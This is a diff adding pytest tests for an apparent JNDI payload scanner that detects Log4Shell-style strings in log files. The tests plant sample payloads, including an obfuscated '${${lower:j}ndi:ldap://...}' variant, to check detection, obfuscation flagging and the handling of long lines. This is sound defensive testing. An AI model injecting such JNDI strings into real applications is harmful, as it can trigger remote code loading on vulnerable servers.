@@ -0,0 +1,49 @@
+#!/usr/bin/env python3
+"""
+Tests for the Streaming JNDI Payload Scanner
+"""
+
+import pytest
+
+from jndi_scanner import MAX_LINE_LENGTH, build_tasks, parse_args, scan
+
+
+def run_scan(paths, **kwargs):
+    """Return (hits, summary) of a complete scan"""
+    results = scan(paths, workers=1, **kwargs)
+    hits = []
+    while True:
+        try:
+            hits.append(next(results))
+        except StopIteration as done:
+            return hits, done.value
+
+
+def test_long_lines_are_reported(tmp_path):
+    log = tmp_path / 'app.log'
+    padding = 'x' * MAX_LINE_LENGTH
+    log.write_text("ok ${${lower:j}ndi:ldap://a/b}\n"
+                   f"{padding} ${{jndi:ldap://c/d}}\n"
+                   f"${{jndi:ldap://e/f}} {padding}\n"
+                   "plain\n")
+    hits, (_, files, chunks, truncated) = run_scan([str(log)])
+    assert [(hit['snippet'][:20], hit['truncated']) for hit in hits] == [
+        ('${${lower:j}ndi:ldap', False), ('${jndi:ldap://e/f} x', True)]
+    assert hits[0]['obfuscation'] == ['${lower:']
+    second_line = len("ok ${${lower:j}ndi:ldap://a/b}\n")
+    assert truncated == [(str(log), second_line), (str(log), second_line + len(padding) + 20)]
+
+
+@pytest.mark.parametrize('option', ['--workers', '--chunk-size'])
+@pytest.mark.parametrize('value', ['0', '-1'])
+def test_counts_must_be_positive(option, value, capsys):
+    with pytest.raises(SystemExit):
+        parse_args(['app.log', option, value])
+    assert 'must be at least 1' in capsys.readouterr().err
+
+
+def test_build_tasks_rejects_empty_chunks(tmp_path):
+    log = tmp_path / 'app.log'
+    log.write_text("line\n")
+    with pytest.raises(ValueError):
+        build_tasks([str(log)], 0)